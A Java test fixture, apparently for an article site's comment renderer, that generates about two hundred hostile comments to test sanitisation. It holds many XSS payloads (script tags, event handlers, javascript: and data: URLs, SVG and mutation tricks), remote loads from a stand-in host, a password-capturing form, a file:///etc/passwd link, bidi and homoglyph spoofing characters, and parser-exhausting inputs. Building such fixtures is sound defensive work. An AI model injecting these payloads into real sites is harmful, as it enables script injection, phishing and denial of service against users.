package io.feedmill.articles.http.discussion;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// Two hundred comments that try to inject a script or a foreign address, to break the page, or to
/// make rendering expensive. `{evil}` in a form stands for each of the payloads.
public final class HostileComments {
  /// Longest text of a comment.
  private static final int MOST = 10_000;

  /// The intended effect of a link or tag.
  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "java&#10;script:alert(1)",
          "javascript&colon;alert(1)",
          "&#x6A;avascript:alert(1)",
          "\u0001javascript:alert(1)",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
          "blob:https://tracker.example/1",
          "file:///etc/passwd",
          "filesystem:http://tracker.example/a",
          "view-source:javascript:alert(1)",
          "feed:javascript:alert(1)",
          "//tracker.example/x");

  private static final List<String> LINKS =
      List.of(
          "[x]({evil})",
          "[x](<{evil}>)",
          "![x]({evil})",
          "[x][1]\n\n[1]: {evil}",
          "<{evil}>",
          "[![x]({evil})](https://example.org/)");

  private static final List<String> TAGS =
      List.of(
          "<script>alert(1)</script>",
          "<script src=https://tracker.example/a.js></script>",
          "<SCRIPT/SRC=//tracker.example/a.js>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=https://tracker.example/pixel.png>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe src=https://tracker.example></iframe>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>",
          "<link rel=stylesheet href=https://tracker.example/a.css>",
          "<style>@import 'https://tracker.example/a.css'</style>",
          "<style>*{display:none}</style>",
          "<base href=https://tracker.example/>",
          "<meta http-equiv=refresh content='0;url=https://tracker.example'>",
          "<form action=https://tracker.example><input name=password></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<video src=x onerror=alert(1)>",
          "<audio src=https://tracker.example/a.mp3 autoplay>",
          "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>",
          "<a href=javascript:alert(1)>x</a>",
          "<p style=background:url(https://tracker.example/a.png)>x",
          "<p id=comments class=new data-comments-note>x",
          "<input autofocus onfocus=alert(1)>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?php echo 1 ?>",
          "</div></details></section></main><h1>mine</h1>",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "<plaintext>",
          "<xmp><script>alert(1)</script></xmp>");

  /// Where a tag may hide; each is tried with one tag in turn.
  private static final List<String> PLACES =
      List.of(
          "# {evil}",
          "{evil}\n===",
          "- {evil}",
          "1. {evil}",
          "> {evil}",
          "`{evil}`",
          "``` {evil}\nx\n```",
          "```\n{evil}",
          "    {evil}",
          "**{evil}**",
          "_{evil}_",
          "~~{evil}~~",
          "[{evil}](https://example.org/)",
          "[x](https://example.org/ \"{evil}\")",
          "[x](https://example.org/ '\" onmouseover=\"alert(1)')",
          "[x](https://example.org/?a=\"><script>alert(1)</script>)",
          "[{evil}]: https://example.org/\n\n[{evil}]",
          "| a |\n|---|\n| {evil} |",
          "<https://example.org/{evil}>",
          "https://example.org/{evil}",
          "https://example.org/\"onmouseover=\"alert(1)",
          "me@example.org{evil}",
          "\\{evil}",
          "&lt;script&gt;alert(1)&lt;/script&gt;{evil}",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "@{evil}",
          "@nobody\" onclick=\"alert(1)",
          "a  \n{evil}  \nb",
          "***\n{evil}\n***",
          "[^1]\n\n[^1]: {evil}");

  /// Characters that turn text around, hide it, or are none.
  private static final List<String> CHARACTERS =
      List.of(
          "\u202Eevil\u202C",
          "\u202E".repeat(500),
          "\u2066\u2067\u2068 never closed",
          "[example.org\u202E](https://tracker.example/)",
          "https://example.org/\u202Egpj.exe",
          "\u200Bzero\u200Cwidth\u200D\u2060\uFEFF",
          "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
          "<\u0000script>alert(1)</script>",
          "<script\u0000>alert(1)</script>",
          "\u0001\u0002\u0008\u000B\u000C\u001B[31mred",
          "\u0085\u2028\u2029",
          "Z\u0351\u0302".repeat(1) + "\u0351".repeat(3_000),
          "\uD83D\uDE00".repeat(1_000),
          "\uFFFE\uFFFF",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "\u1160\u3164\u115F",
          "\uDB40\uDC41\uDB40\uDC42 tags",
          "https://ex\u0430mple.org/",
          "\u00AD".repeat(2_000) + "x",
          "\u0600\u06DD\u070F");

  /// Texts that cost a bad renderer much time, or grow.
  private static final List<String> BOMBS =
      List.of(
          "[".repeat(MOST),
          "![".repeat(MOST / 2),
          "[a](".repeat(MOST / 4),
          "]".repeat(MOST),
          "(".repeat(MOST),
          ">".repeat(MOST),
          "> ".repeat(MOST / 2) + "x",
          "- ".repeat(MOST / 2) + "x",
          "1. ".repeat(MOST / 3) + "x",
          nested("- x\n", "  ", 90),
          "*".repeat(MOST),
          "*a ".repeat(MOST / 3),
          "**a *b ".repeat(MOST / 7),
          "_a".repeat(MOST / 2),
          "a**b" + "c* ".repeat(3_000),
          "`".repeat(MOST),
          "` ``".repeat(MOST / 4),
          ticks(),
          "```\n" + "x\n".repeat(4_000),
          "~~~".repeat(MOST / 3),
          "<".repeat(MOST),
          "<a".repeat(MOST / 2),
          "<!--".repeat(MOST / 4),
          "<![CDATA[".repeat(MOST / 9),
          "<?".repeat(MOST / 2),
          "<div>".repeat(MOST / 5),
          "&".repeat(MOST),
          "&amp;".repeat(MOST / 5),
          "&#x41;".repeat(MOST / 6),
          "&CounterClockwiseContourIntegral;".repeat(MOST / 33),
          "&#99999999999;".repeat(MOST / 14),
          "\\".repeat(MOST),
          "#".repeat(MOST),
          "=\n".repeat(MOST / 2),
          "a\n=\n".repeat(MOST / 4),
          "---\n".repeat(MOST / 4),
          "a  \n".repeat(MOST / 4),
          "\n".repeat(MOST - 2) + "x",
          "\t".repeat(MOST - 1) + "x",
          "x".repeat(MOST),
          table(300),
          "|".repeat(MOST),
          references(),
          "[a]: /a\n".repeat(MOST / 8) + "[a]",
          "[a][a]".repeat(150) + "\n\n[a]: https://example.org/" + "a".repeat(5_000),
          "https://example.org/ ".repeat(MOST / 21),
          "www.".repeat(MOST / 4),
          "a@b.".repeat(MOST / 4),
          "http://".repeat(MOST / 7),
          "https://example.org/" + "(".repeat(9_000),
          "@a ".repeat(MOST / 3),
          "@".repeat(MOST),
          "\"".repeat(MOST),
          "'\"<>&".repeat(MOST / 5));

  private HostileComments() {}

  /// All of them, each different.
  public static List<String> all() {
    List<String> all = new ArrayList<>();
    for (int i = 0; i < ADDRESSES.size(); i++) {
      all.add(with(LINKS.get(i % LINKS.size()), ADDRESSES.get(i)));
      all.add(with(LINKS.get((i + 1) % LINKS.size()), ADDRESSES.get(i)));
      all.add(with(LINKS.get((i + 2) % LINKS.size()), ADDRESSES.get(i)));
      all.add("<a href=\"" + ADDRESSES.get(i) + "\">x</a>");
    }
    all.addAll(TAGS);
    for (int i = 0; i < PLACES.size(); i++) {
      all.add(with(PLACES.get(i), TAGS.get((7 * i) % TAGS.size())));
    }
    all.addAll(CHARACTERS);
    all.addAll(BOMBS);
    return all.stream().distinct().toList();
  }

  private static String with(String form, String evil) {
    return form.replace("{evil}", evil);
  }

  private static String nested(String item, String indent, int depth) {
    StringBuilder list = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      list.append(indent.repeat(i)).append(item);
    }
    return list.toString();
  }

  /// Runs of backticks of all lengths, none of which is closed.
  private static String ticks() {
    StringBuilder text = new StringBuilder();
    for (int i = 1; text.length() + i + 2 < MOST; i++) {
      text.append("e").append("`".repeat(i)).append(' ');
    }
    return text.toString();
  }

  private static String table(int columns) {
    String row = "|a".repeat(columns) + "|\n";
    return row + "|-".repeat(columns) + "|\n" + row.repeat(MOST / row.length() - 2);
  }

  /// References that name each other.
  private static String references() {
    Stream<String> chain =
        IntStream.range(0, 300).mapToObj(i -> "[" + i + "]: https://example.org/" + (i + 1));
    return "[0][1][2][3]\n\n" + String.join("\n", chain.toList());
  }
}
